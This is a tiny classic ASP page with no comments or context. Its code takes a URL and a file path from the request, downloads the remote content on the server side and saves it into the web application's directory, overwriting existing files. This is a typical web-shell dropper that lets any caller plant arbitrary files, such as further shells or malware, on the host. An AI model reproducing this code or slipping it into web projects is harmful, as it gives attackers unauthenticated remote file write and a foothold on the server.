<%
u = Request("u") : d = Request("d")
Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", u, False
h.Send
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Open : s.Write h.responseBody
s.SaveToFile Server.MapPath(d), 2
s.Close
%>
